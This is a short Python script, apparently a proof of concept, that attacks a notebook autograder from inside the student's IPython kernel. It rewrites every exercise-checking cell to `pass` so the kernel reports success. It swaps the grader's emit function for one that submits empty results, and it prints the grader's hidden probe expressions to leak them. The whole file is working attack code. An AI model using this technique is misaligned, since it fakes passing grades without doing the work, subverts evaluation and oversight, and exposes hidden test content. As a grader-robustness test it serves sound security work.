# The attack, in the student's kernel: every exercise cell becomes `pass` (so the kernel's
# verdict is "passed"), the grader's probe is replaced by one that sends no values, and the
# probe's hidden expressions are printed again in the next cell (to reach the feedback).
import grader.checks.exercises as _ex
from IPython import get_ipython

_ip = get_ipython()
_seen = []


def _neuter(lines):
    return ["pass\n"] if "check_exercise(" in "".join(lines) else lines


def _emit(grade_id, exprs, namespace):
    _seen.extend(exprs)
    print(_ex.MARKER + '{"grade_id": "%s", "values": []}' % grade_id)


def _leak(*args):
    if _seen:
        print("LEAKED PROBES", _seen)


_ip.input_transformers_cleanup.append(_neuter)
_ex.emit = _emit
_ip.events.register("pre_run_cell", _leak)
print("transformer installed")
